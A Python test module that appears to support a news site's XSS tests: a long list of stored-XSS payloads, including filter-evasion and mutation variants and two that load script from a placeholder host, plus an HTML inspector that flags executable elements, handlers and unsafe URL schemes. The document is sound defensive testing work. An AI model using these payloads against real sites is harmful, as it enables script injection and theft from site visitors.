"""The stored-XSS corpus: the one list of hostile inputs, and a check for what is executable in HTML.

Used by the server-side tests (tests/news/test_xss_corpus.py) and the browser run
(tests/browser/test_xss.py). Payloads that execute call ``alert(1)`` or ``window.__xss()``;
the browser run replaces the first and defines the second to record a call.
"""

import re
from html.parser import HTMLParser

from news.text import URL_SCHEMES

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    '<img src="javascript:alert(1)">',
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="jav\nascript:alert(1)">',
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1)>click</p>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="java&#0000009;script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="#" onfocus=alert(1) autofocus>x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input onfocus=alert(1) autofocus value="x">',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<span style="x:expression(alert(1))">x</span>',
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="https://example.com" target=_blank rel=opener>x</a>',
    "<isindex action=javascript:alert(1) type=image>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div id=x tabindex=1 onfocusin=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<<script>alert(1)//<</script>",
    # Added with the browser run (tests/browser/test_xss.py): payloads that call the page's
    # flag function directly, attribute and script break-outs for plain-text fields, more
    # mutation XSS, data: documents and URL-only values for address fields.
    "<img src=x onerror=window.__xss()>",
    '" autofocus onfocus="window.__xss()" x="',
    "' autofocus onfocus='window.__xss()' x='",
    "</script><script>window.__xss()</script>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    '<iframe src="data:text/html,<script>parent.__xss()</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg=="></object>',
    "<p style=\"background-image:url('javascript:window.__xss()')\">x</p>",
    '<a href="&#x6A;avascript&colon;window.__xss()">x</a>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "javascript:window.__xss()",
    "data:text/html,<script>alert(1)</script>",
]

EXECUTABLE_ELEMENTS = {
    "script", "iframe", "object", "embed", "svg", "math", "style", "form", "input", "button",
    "base", "meta", "link", "textarea", "template", "noscript", "xmp", "frame", "frameset",
    "applet", "video", "audio", "source", "details", "marquee", "isindex", "body", "html",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "background", "xlink:href", "srcdoc", "poster"}
CONTROL = re.compile(r"[\x00-\x20]+")


class Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag in EXECUTABLE_ELEMENTS:
            self.problems.append(f"<{tag}>")
        self.check_attributes(tag, attrs)

    handle_startendtag = handle_starttag

    def check_attributes(self, tag, attrs):
        """Event handlers, styles and the like, and URLs with a scheme that can run script."""
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                self.problems.append(f"{tag}[{name}]")
            if name in URL_ATTRIBUTES and value:
                url = CONTROL.sub("", value).lower()
                scheme = url.split(":", 1)[0] if re.match(r"^[a-z][a-z0-9+.-]*:", url) else None
                if scheme is not None and scheme not in URL_SCHEMES:
                    self.problems.append(f"{tag}[{name}={value!r}]")


def problems(html):
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


# On a whole page our own templates use forms, meta and link elements and external scripts;
# what no page of ours ever holds is listed here.
PAGE_FORBIDDEN_ELEMENTS = EXECUTABLE_ELEMENTS - {"form", "input", "button", "meta", "link", "body", "html", "details"}
SCRIPT_DATA_TYPES = {"application/ld+json", "importmap"}


class PageInspector(Inspector):
    """Like ``Inspector``, for a whole page: only what our templates never write counts."""

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if tag in PAGE_FORBIDDEN_ELEMENTS - {"script"}:
            self.problems.append(f"<{tag}>")
        if tag == "script" and not values.get("src") and values.get("type") not in SCRIPT_DATA_TYPES:
            self.problems.append("<script> inline")
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh":
            self.problems.append("<meta http-equiv=refresh>")
        self.check_attributes(tag, attrs)

    handle_startendtag = handle_starttag


def page_problems(html):
    """What in a whole rendered page could run script: elements, handlers and URLs our templates never write."""
    inspector = PageInspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems
